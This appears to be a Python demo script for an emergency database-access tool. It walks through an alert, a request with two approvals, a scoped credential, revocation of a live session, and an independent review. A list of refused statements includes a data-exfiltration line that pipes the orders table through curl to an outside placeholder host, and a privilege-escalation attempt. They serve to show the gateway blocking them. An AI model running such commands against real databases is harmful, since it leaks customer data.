"""The emergency: alert, request, approvals, dedicated credential, work, return, proof, review."""

import json

import psycopg

from callpoint.cli.demo import cast
from callpoint.cli.demo.actor import Actor
from callpoint.cli.demo.alert import alert
from callpoint.cli.demo.errors import UnexpectedError, expect
from callpoint.cli.demo.stage import INSTALLATION_FILE, Stage

_BECAUSE = "orders are stuck since the deploy; resetting their state cannot wait for morning"

_OUT_OF_SCOPE = (
    ("SET ROLE orders_broker", "SET role is never allowed through a gateway"),
    ("COPY orders TO PROGRAM 'curl -T - https://elsewhere.example'", "PROGRAM is never allowed"),
    ("SELECT card FROM customers", "permission denied for table customers"),
)
"""Statements, and words of why not."""


def emergency(made: Stage) -> tuple[str, str]:
    """Play it; returns the activation, reviewed and closed, and its incident, still open."""
    incident = _alarm(made)
    activation = _ask(made, incident)
    _approve(made, activation)
    actor = _work(made, activation)
    _give_back(made, activation, actor)
    _is_dead(made, activation, incident)
    _review(made, activation)
    return activation, incident


def _alarm(made: Stage) -> str:
    made.narrator.act("03:07. The alarm")
    incident = alert(made.server, "OrdersStuck", "00deadbeef00cafe")
    made.narrator.line(f"Alertmanager posts a critical alert. It is incident {incident}, sev1,")
    made.narrator.line("and it names orders-db. Alice is on call.")
    return incident


def _ask(made: Stage, incident: str) -> str:
    made.narrator.act("1 request")
    words = ("request", cast.ELIGIBILITY, "--incident", incident, "--because", _BECAUSE)
    made.narrator.typed("alice", ["callpoint", *words])
    view = made.shell.json("alice", *words)
    activation: str = view["id"]
    made.narrator.seen(f"activation {activation} is {view['state']}\n{view['next']}")
    return activation


def _approve(made: Stage, activation: str) -> None:
    made.narrator.act("2 approve: two other persons sign exactly this request")
    made.shell.run("carol", "approve", activation, "--yes")
    made.shell.run("dave", "approve", activation, "--yes")
    expect(
        made.shell.json("alice", "status", activation)["state"] == "approved",
        "two distinct persons complete the quorum",
    )


def _work(made: Stage, activation: str) -> Actor:
    made.narrator.act("3 issue, 4 use: a credential for Alice, this incident, this role")
    made.shell.run("alice", "request", "--resume", activation, "--wait")
    actor = Actor(made, "alice", activation)
    actor.works("UPDATE orders SET state = 'paid' WHERE id <= 50")
    made.narrator.good("the repair works; the database's password stayed in the gateway")
    made.narrator.line("Out of scope, in one session:")
    actor.is_refused(_OUT_OF_SCOPE)
    made.narrator.good(
        "no way to more power or out of the database; and where the gateway has no objection,"
        " the database's own rights still hold"
    )
    return actor


def _give_back(made: Stage, activation: str, actor: Actor) -> None:
    made.narrator.act("5 return: revoked now, while the incident is open")
    secret = actor.secret(logins=2)
    with actor.session(secret) as session:
        made.narrator.line(
            "Alice forgets to close a session. It is still open when she returns it."
        )
        made.shell.run("alice", "return", activation, "--used")
        try:
            session.execute("SELECT 1")
        except psycopg.OperationalError as error:
            made.narrator.seen(f"the forgotten session: {str(error).splitlines()[0]}")
        else:
            raise UnexpectedError("the forgotten session is still alive")
    made.narrator.good("the live session was cut")
    try:
        actor.session(secret).close()
    except psycopg.OperationalError as error:
        made.narrator.seen(f"a login that was left: {str(error).rpartition('FATAL:')[2].strip()}")
    else:
        raise UnexpectedError("the gateway still lets her in")


def _is_dead(made: Stage, activation: str, incident: str) -> None:
    with psycopg.connect(made.owner_url) as owner:
        left = owner.execute(
            "SELECT count(*) FROM pg_roles WHERE rolname LIKE 'cp\\_%%' AND rolcanlogin"
        ).fetchone()
    expect(left == (0,), "no account is left on the database")
    (lease,) = made.shell.json("alice", "status", activation)["leases"]
    expect(lease["evidence"] == "absent, refused", "the evidence says: absent, refused")
    states = {i["id"]: i["state"] for i in made.shell.json("alice", "incident", "list")}
    expect(states[incident] == "open", "the incident is still open")
    made.narrator.good(
        "gone from the catalogue, refused when tried, and the incident is still open"
    )


def _review(made: Stage, activation: str) -> None:
    made.narrator.act("6 review: by somebody who neither used nor approved it")
    made.shell.run(
        "erin",
        *("review", activation, "--verdict", "justified"),
        *("--finding", "the deploy had no rollback", "--follow-up", "add a rollback step"),
        *("--installation", INSTALLATION_FILE),
    )
    made.narrator.act("The evidence, verified offline by somebody who trusts nobody")
    file = made.folder / "evidence.json"
    made.shell.run("erin", "evidence", activation, "--out", file.name, show=False)
    made.shell.run(
        "an outsider",
        *("verify", "bundle", file.name, "--installation", INSTALLATION_FILE, "--expect-closed"),
    )
    entries = len(json.loads(file.read_text())["entries"])
    made.narrator.good(
        f"{entries} of them are the activation's, from request to verdict, none missing"
    )
